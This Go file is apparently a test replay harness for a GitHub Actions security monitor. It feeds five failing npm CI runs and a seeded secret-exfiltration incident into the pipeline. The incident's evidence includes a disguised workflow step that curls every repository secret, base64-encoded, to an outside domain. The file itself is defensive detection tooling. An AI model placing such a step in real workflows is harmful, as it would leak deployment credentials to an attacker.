// Copyright 2024 The Authors (see AUTHORS file)
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// Package replay drives deterministic fixtures through the incident
// pipeline. It seeds one personalized-exfiltration incident, then replays
// five failing runs across three owners whose logs all carry the npm E401
// signature, which is enough to trip the ecosystem correlator exactly once.
package replay

import (
	"context"
	"fmt"
	"strings"
	"time"

	"github.com/abcxyz/github-sentinel/pkg/incident"
	"github.com/abcxyz/github-sentinel/pkg/runlogs"
	"github.com/abcxyz/github-sentinel/pkg/signal"
)

// interFixtureDelay spaces the replayed runs out so live stream viewers see
// cards arrive rather than a single burst.
const interFixtureDelay = 50 * time.Millisecond

const fixtureLog = "npm ERR! code E401\nnpm ERR! Unable to authenticate, need: Basic"

// Pipeline is the subset of the incident pipeline the harness needs.
type Pipeline interface {
	EmitIncident(ctx context.Context, inc *incident.Incident) (bool, error)
	ProcessRunLogs(ctx context.Context, runCtx *signal.RunContext, logs []*runlogs.JobLog, source string) int
}

// Harness replays the fixtures. Safe to run repeatedly; the seeded incident
// dedupes on its key and the correlator cooldown suppresses repeat bundles.
type Harness struct {
	pipeline Pipeline
	now      func() time.Time
	delay    time.Duration
}

// Option customizes a Harness.
type Option func(*Harness)

// WithNowFunc overrides the clock, for testing.
func WithNowFunc(fn func() time.Time) Option {
	return func(h *Harness) {
		h.now = fn
	}
}

// WithDelay overrides the delay between fixtures, for testing.
func WithDelay(d time.Duration) Option {
	return func(h *Harness) {
		h.delay = d
	}
}

// New creates a Harness feeding the given pipeline.
func New(p Pipeline, opts ...Option) *Harness {
	h := &Harness{
		pipeline: p,
		now:      time.Now,
		delay:    interFixtureDelay,
	}
	for _, opt := range opts {
		opt(h)
	}
	return h
}

// Run seeds the exfiltration incident and replays the five fixture runs.
// It returns the number of incidents the fixtures emitted through the
// correlator, not counting the seed.
func (h *Harness) Run(ctx context.Context) (int, error) {
	if _, err := h.pipeline.EmitIncident(ctx, h.seedIncident()); err != nil {
		return 0, fmt.Errorf("failed to seed exfiltration incident: %w", err)
	}

	emitted := 0
	for _, f := range h.fixtures() {
		emitted += h.pipeline.ProcessRunLogs(ctx, f.runCtx, f.logs, "replay")

		if h.delay <= 0 {
			continue
		}
		select {
		case <-ctx.Done():
			return emitted, ctx.Err() //nolint:wrapcheck // Want passthrough
		case <-time.After(h.delay):
		}
	}
	return emitted, nil
}

type fixture struct {
	runCtx *signal.RunContext
	logs   []*runlogs.JobLog
}

// fixtures builds five failing CI runs, staggered one second apart, across
// repos owned by org-a, org-b, and org-c.
func (h *Harness) fixtures() []*fixture {
	logs := []*runlogs.JobLog{{
		JobName: "build",
		LogText: fixtureLog,
	}}
	repos := []string{
		"org-a/repo-one",
		"org-b/repo-two",
		"org-c/repo-three",
		"org-a/repo-four",
		"org-b/repo-five",
	}

	now := h.now().UTC()
	out := make([]*fixture, 0, len(repos))
	for i, repo := range repos {
		owner, _, _ := strings.Cut(repo, "/")
		runID := int64(1001 + i)
		out = append(out, &fixture{
			runCtx: &signal.RunContext{
				RepoFullName: repo,
				Owner:        owner,
				RunID:        runID,
				HTMLURL:      fmt.Sprintf("https://example.com/runs/%d", runID),
				WorkflowName: "CI",
				Conclusion:   "failure",
				UpdatedAt:    now.Add(time.Duration(i+1) * time.Second).Format(time.RFC3339),
			},
			logs: logs,
		})
	}
	return out
}

// seedIncident is a fully-formed personalized-exfiltration finding, shaped
// exactly as the live detector emits them.
func (h *Harness) seedIncident() *incident.Incident {
	const (
		repo = "org-demo/payments-service"
		sha  = "9f1c2ab34cd56ef7890a12b3c4d5e6f708192a3b"
		path = ".github/workflows/deploy.yml"
	)
	now := h.now().UTC().Format(time.RFC3339)

	dedupeKey := fmt.Sprintf("personalized_exfil:%s:%s:%s", repo, sha, path)
	return &incident.Incident{
		ID:           incident.ID(dedupeKey),
		Kind:         incident.KindPersonalizedExfil,
		RunID:        incident.StableRunID(dedupeKey),
		DedupeKey:    dedupeKey,
		RepoFullName: repo,
		WorkflowName: path,
		Status:       "detected",
		Conclusion:   "high",
		HTMLURL:      fmt.Sprintf("https://github.com/%s/commit/%s", repo, sha),
		CreatedAt:    now,
		UpdatedAt:    now,
		Title:        fmt.Sprintf("Personalized secret exfiltration risk in %s", repo),
		Tags: []string{
			"security",
			"workflow_injection",
			"secret_enumeration",
			"confidence:high",
			"overlap:2",
		},
		Evidence: incident.Evidence{
			"repo_full_name": repo,
			"sha":            sha,
			"actor":          "mallory-dev",
			"workflow_path":  path,
			"overlap_secrets": []string{
				incident.HashSecretName("NPM_TOKEN"),
				incident.HashSecretName("DEPLOY_KEY"),
			},
			"overlap_count": 2,
			"exfil_domain":  "493networking.cc",
			"confidence":    "high",
			"evidence_lines": []string{
				"- name: Github Actions Security",
				`  run: curl -s -X POST -d "$(echo ${{ toJSON(secrets) }} | base64)" https://493networking.cc/collect`,
			},
			"source": "replay",
		},
	}
}
